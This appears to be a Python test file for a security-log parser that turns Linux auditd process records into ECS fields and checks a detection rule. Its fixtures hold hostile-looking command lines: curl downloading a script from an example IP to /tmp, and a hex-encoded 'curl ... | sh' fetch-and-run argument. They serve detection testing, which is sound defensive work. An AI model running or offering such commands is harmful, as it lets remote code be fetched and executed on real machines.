"""auditd process records as the kernel writes them: EXECVE (its arguments, long ones in pieces), SYSCALL
(the process, its parent, who runs it) and PROCTITLE, in the ECS process names Linux process rules read.
Golden records: fixtures/auditd.{txt,json}."""

from __future__ import annotations

import time

from seclake.ingest import parse_line
from seclake.query import ast
from seclake.query.matcher import matches
from seclake.record.dataset import EVENTS

# One execve as auditd logs it: the records of one event share the audit(<time>:<serial>) stamp.
SYSCALL = ('type=SYSCALL msg=audit(1714564750.200:500): arch=c000003e syscall=59 success=yes exit=0 a0=5612a3c0e0b0 '
           'a1=5612a3c0e110 a2=5612a3c0e140 a3=8 items=2 ppid=2291 pid=2320 auid=1000 uid=1000 gid=1000 euid=0 '
           'suid=0 fsuid=0 egid=1000 sgid=1000 fsgid=1000 tty=pts1 ses=3 comm="curl" exe="/usr/bin/curl" '
           'subj=unconfined key="exec"')
EXECVE = 'type=EXECVE msg=audit(1714564750.200:500): argc=4 a0="curl" a1="-s" a2="http://198.51.100.23/x.sh" a3="-o/tmp/x.sh"'
TITLE = "\x00".join(["/usr/bin/curl", "-s", "http://198.51.100.23/x.sh"]).encode().hex().upper()
PROCTITLE = f"type=PROCTITLE msg=audit(1714564750.200:500): proctitle={TITLE}"


def _fields(line: str) -> dict:
    record, understood = parse_line(line, vendor="auditd", dataset="event", received_ms=1714564801000)
    assert understood
    return record["@fields"]


def test_execve_gives_the_arguments_and_the_command_line():
    process = _fields(EXECVE)["process"]
    assert process == {"name": "curl", "command_line": "curl -s http://198.51.100.23/x.sh -o/tmp/x.sh",
                       "args": ["curl", "-s", "http://198.51.100.23/x.sh", "-o/tmp/x.sh"], "args_count": 4}
    # A program named by its path is the executable too.
    absolute = _fields('type=EXECVE msg=audit(1714564751.000:501): argc=2 a0="/usr/bin/id" a1="-u"')["process"]
    assert absolute["executable"] == "/usr/bin/id" and absolute["name"] == "id"


def test_syscall_gives_the_process_its_parent_and_its_users():
    fields = _fields(SYSCALL)
    assert fields["event"]["category"] == "process" and fields["event"]["type"] == "start"
    assert fields["process"] == {"pid": 2320, "executable": "/usr/bin/curl", "name": "curl", "parent": {"pid": 2291}}
    assert fields["user"] == {"id": "1000", "audit": {"id": "1000"}, "effective": {"id": "0"}}


def test_proctitle_gives_the_arguments_without_calling_it_a_process_start():
    fields = _fields(PROCTITLE)
    assert fields["process"]["args"] == ["/usr/bin/curl", "-s", "http://198.51.100.23/x.sh"]
    assert fields["process"]["executable"] == "/usr/bin/curl"
    assert fields["process"]["command_line"] == "/usr/bin/curl -s http://198.51.100.23/x.sh"
    assert "category" not in fields["event"]  # PROCTITLE comes with every audited syscall, not only execve


def test_a_long_argument_in_pieces_is_joined():
    line = ('type=EXECVE msg=audit(1714564751.000:501): argc=3 a0="sh" a1="-c" a2_len=28 '
            'a2[0]=6375726C20687474703A2F2F a2[1]="example.net/|sh"')
    assert _fields(line)["process"]["args"] == ["sh", "-c", "curl http://example.net/|sh"]


def test_a_linux_process_rule_finds_the_execve():
    # How S1's Linux process_creation rules select and read (process.args, as Sigma's a0..aN do).
    rule = ast.and_(ast.Term("@fields.event.category", "process"), ast.Term("@fields.event.type", "start"),
                    ast.Term("@fields.process.args", "-s"),
                    ast.Wildcard("@fields.process.command_line", "*198.51.100.23*"))
    for line, want in ((EXECVE, True), (SYSCALL, False), (PROCTITLE, False)):
        record, _ = parse_line(line, vendor="auditd", dataset="event", received_ms=1714564801000)
        assert matches(rule, record, EVENTS) is want, line


def test_hostile_argument_counts_cost_little():
    started = time.perf_counter()
    pieces = " ".join(f"a0[{j}]=41" for j in range(5000))
    fields = _fields(f"type=EXECVE msg=audit(1714564751.000:501): argc=4294967295 a0_len=99 {pieces}")
    assert fields["process"]["args"] == ["A" * 256]  # at most 256 pieces of one argument
    fields = _fields("type=PROCTITLE msg=audit(1714564751.000:501): proctitle=" + "00" * 30_000)
    assert "args" not in fields.get("process", {})
    assert time.perf_counter() - started < 1.0
